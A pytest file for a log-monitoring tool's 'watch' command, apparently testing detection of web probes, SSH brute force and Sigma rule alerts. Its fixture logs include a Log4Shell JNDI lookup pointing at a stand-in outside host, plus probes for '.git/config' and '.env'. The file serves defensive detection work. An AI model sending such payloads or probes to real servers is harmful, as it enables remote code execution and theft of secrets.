"""``watch()`` over files, gzip and standard input, and the ``sakimori watch`` command."""

from __future__ import annotations

import gzip
import io
import json
import sys
from pathlib import Path

import pytest

from sakimori.errors import InvalidInput, NotFound, UnsupportedFormat
from sakimori.monitoring.watch import WatchOptions, watch
from tests.conftest import require_data

LINE = '1.2.3.4 - - [10/Oct/2023:08:32:{:02d} +0000] "GET /w{} HTTP/1.1" 404 1 "-" "curl/8"\n'
WORDLIST = "".join(LINE.format(i % 60, i) for i in range(30))


def sqli_log() -> Path:
    return require_data(
        "weblogs", "crowdsec-hub-tests", "tests", "nginx-http-sqli-probing",
        "nginx-http-sqli-probing.log",
    )  # fmt: skip


def test_plain_gzip_and_stdin_read_the_same(tmp_path: Path) -> None:
    plain = tmp_path / "access.log"
    plain.write_text(WORDLIST, encoding="utf-8")
    packed = tmp_path / "access.log.1"  # gzip is recognised by content, not by name
    packed.write_bytes(gzip.compress(WORDLIST.encode()))
    results = [
        watch([plain]),
        watch([packed]),
        watch(["-"], stdin=io.BytesIO(WORDLIST.encode())),
    ]
    for result in results:
        assert {a.detector for a in result.alerts} >= {"http-breadth"}
        assert (result.sources[0].lines, result.sources[0].records) == (30, 30)
    assert results[2].sources[0].source == "<stdin>"


def test_parse_errors_are_counted_and_sampled_not_fatal(tmp_path: Path) -> None:
    log = tmp_path / "mixed.log"
    bad = [f"garbage {i}\n" for i in range(15)]
    log.write_text(WORDLIST + "".join(bad) + "\xff\n", encoding="latin-1")
    result = watch([log], WatchOptions(error_samples=3))
    stats = result.sources[0]
    assert stats.errors == 16
    assert stats.samples == [(31, "garbage 0"), (32, "garbage 1"), (33, "garbage 2")]
    assert stats.records == 30


def test_bad_sources(tmp_path: Path) -> None:
    with pytest.raises(NotFound):
        watch([tmp_path / "absent.log"])
    with pytest.raises(InvalidInput):
        watch([tmp_path])
    other = tmp_path / "other.log"
    other.write_text("hello\nworld\n", encoding="utf-8")
    with pytest.raises(UnsupportedFormat):
        watch([other])
    with pytest.raises(InvalidInput):
        watch([other], WatchOptions(log_format="xml"))
    broken = tmp_path / "broken.gz"
    broken.write_bytes(gzip.compress(WORDLIST.encode())[:40])
    with pytest.raises(InvalidInput):
        watch([broken])


def test_empty_source(tmp_path: Path) -> None:
    empty = tmp_path / "empty.log"
    empty.write_text("\n\n", encoding="utf-8")
    result = watch([empty])
    assert result.alerts == []
    assert result.sources[0].log_format == "empty"


def test_named_format_and_ssh(tmp_path: Path) -> None:
    auth = tmp_path / "auth.log"
    auth.write_text(
        "".join(
            f"Mar  1 12:00:{i:02d} h sshd[{i}]: Failed password for invalid user u{i} from "
            f"198.51.100.9 port {4000 + i} ssh2\n"
            for i in range(12)
        ),
        encoding="utf-8",
    )
    result = watch([auth], WatchOptions(log_format="ssh", year=2022))
    assert {a.detector for a in result.alerts} == {"ssh-bruteforce", "ssh-spray"}
    assert all(a.first_seen.year == 2022 for a in result.alerts)


class Run:
    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err


@pytest.fixture
def sakimori(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path):  # type: ignore[no-untyped-def]
    from sakimori.cli import main as cli_main

    monkeypatch.setenv("SAKIMORI_HOME", str(tmp_path / "home"))

    def call(*args: str, stdin: bytes | None = None) -> Run:
        monkeypatch.setattr(sys, "argv", ["sakimori", *args])
        if stdin is not None:
            monkeypatch.setattr(
                sys, "stdin", io.TextIOWrapper(io.BufferedReader(io.BytesIO(stdin)))
            )
        capsys.readouterr()
        with pytest.raises(SystemExit) as exited:
            cli_main.main()
        captured = capsys.readouterr()
        code = exited.value.code
        return Run(code if isinstance(code, int) else 2, captured.out, captured.err)

    return call


def test_cli_json(sakimori) -> None:  # type: ignore[no-untyped-def]
    run = sakimori("watch", "--format", "json", str(sqli_log()))
    assert run.code == 1, run.err
    alerts = [json.loads(line) for line in run.out.splitlines()]
    assert alerts
    for alert in alerts:
        assert {
            "detector",
            "client",
            "first_seen",
            "last_seen",
            "count",
            "examples",
            "reason",
        } <= set(alert)
        assert alert["first_seen"].startswith("2021-09-30T11:11:54")
    assert any(a["detector"] == "http-payload" and a["client"] == "127.0.0.1" for a in alerts)
    summary = json.loads(run.err.splitlines()[-1])["parse"]
    assert (summary["lines"], summary["records"], summary["errors"]) == (16, 16, 0)


def test_cli_text(sakimori) -> None:  # type: ignore[no-untyped-def]
    run = sakimori("watch", str(sqli_log()))
    assert run.code == 1
    assert "http-payload" in run.out
    assert "127.0.0.1" in run.out
    assert "16 lines, 16 records, 0 skipped, 0 parse errors" in run.out


def test_cli_no_alerts_stdin_and_errors(sakimori, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    quiet = (
        b'1.2.3.4 - - [10/Oct/2023:08:32:01 +0000] "GET / HTTP/1.1" 200 1 "-" '
        b'"Mozilla/5.0 (X11) Firefox/128.0"\n'
    )
    run = sakimori("watch", "-", stdin=quiet)
    assert (run.code, run.out.splitlines()[0]) == (0, "no alerts")
    run = sakimori("watch", str(tmp_path / "absent.log"))
    assert run.code == 2
    assert "no such log file" in run.err
    run = sakimori("watch", "--json-field", "client", str(sqli_log()))
    assert run.code == 2
    assert "name=path" in run.err
    log = tmp_path / "j.log"
    log.write_text('{"who":"1.2.3.4","t":"2024-01-01T00:00:00Z","u":"/.env"}\n', encoding="utf-8")
    run = sakimori("watch", "--log-format", "json", "--json-field", "client=who",
                   "--json-field", "time=t", "--json-field", "path=u", str(log))  # fmt: skip
    assert run.code == 0
    assert "1 records" in run.out


def sigma_rules() -> Path:
    return require_data("weblogs", "sigma", "rules", "web", "webserver_generic")


def test_sigma_rules_raise_sigma_alerts(tmp_path: Path) -> None:
    from sakimori.monitoring.sigma import load_rule_paths

    rules = load_rule_paths([sigma_rules()]).rules
    log = tmp_path / "access.log"
    log.write_text(
        '203.0.113.5 - - [10/Oct/2023:08:32:01 +0000] "GET /index.php?q=${jndi:ldap://e.org/a}'
        ' HTTP/1.1" 200 1 "-" "Mozilla/5.0"\n'
        '203.0.113.5 - - [10/Oct/2023:08:32:02 +0000] "GET /repo/.git/config HTTP/1.1" 404 1 "-"'
        ' "Mozilla/5.0"\n'
        '198.51.100.1 - - [10/Oct/2023:08:32:03 +0000] "GET /about HTTP/1.1" 200 1 "-"'
        ' "Mozilla/5.0"\n',
        encoding="utf-8",
    )
    plain = watch([log])
    assert not [a for a in plain.alerts if a.detector == "sigma"]
    result = watch([log], WatchOptions(sigma_rules=rules))
    sigma = [a for a in result.alerts if a.detector == "sigma"]
    assert [(a.client, a.count) for a in sigma] == [("203.0.113.5", 2)]
    reason = sigma[0].reason
    assert "Source Code Enumeration Detection by Keyword" in reason
    assert "[953d460b-f810-420a-97a2-cfca4c98e602]" in reason  # the rule id
    assert "(high)" in reason  # the JNDI rule's level
    # The other detectors' alerts are the same with or without Sigma.
    assert [a for a in result.alerts if a.detector != "sigma"] == plain.alerts


def test_cli_sigma_warnings_and_strict(sakimori) -> None:  # type: ignore[no-untyped-def]
    everything = require_data("weblogs", "sigma")
    log4j = require_data(
        "weblogs", "crowdsec-hub-tests", "tests", "apache_log4j2_cve-2021-44228",
        "apache_log4j2_cve-2021-44228.log",
    )  # fmt: skip
    run = sakimori("watch", "--sigma", str(everything), "--format", "json", str(log4j))
    assert run.code == 1, run.err
    # One warning for the web rule that cannot run; the proxy and error-log rules are counted in
    # the summary line, not listed one by one.
    warnings = [line for line in run.err.splitlines() if "warning: sigma:" in line]
    assert len(warnings) == 1, run.err
    assert "cs-content-type" in warnings[0]
    assert "category proxy" in run.err
    assert "Sigma rules loaded" in run.err
    assert any(json.loads(line)["detector"] == "sigma" for line in run.out.splitlines())
    run = sakimori("watch", "--sigma", str(everything), "--sigma-strict", str(sqli_log()))
    assert run.code == 2
    assert "Sigma rules cannot run" in run.err
    run = sakimori("watch", "--sigma", str(sigma_rules()), "--sigma-strict", str(sqli_log()))
    assert run.code == 1, run.err


def test_cli_follow_and_sigma_option_errors(sakimori, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run = sakimori("watch", "--follow", "-")
    assert (run.code, "--follow needs log files" in run.err) == (2, True)
    run = sakimori("watch", "--from-start", str(sqli_log()))
    assert (run.code, "--from-start goes with --follow" in run.err) == (2, True)
    run = sakimori("watch", "--follow", str(tmp_path / "no" / "dir" / "access.log"))
    assert (run.code, "no such directory" in run.err) == (2, True)
    run = sakimori("watch", "--sigma", str(tmp_path / "absent"), str(sqli_log()))
    assert (run.code, "no such Sigma rule file" in run.err) == (2, True)
    empty = tmp_path / "rules"
    empty.mkdir()
    run = sakimori("watch", "--sigma", str(empty), str(sqli_log()))
    assert (run.code, "no Sigma rule to run" in run.err) == (2, True)
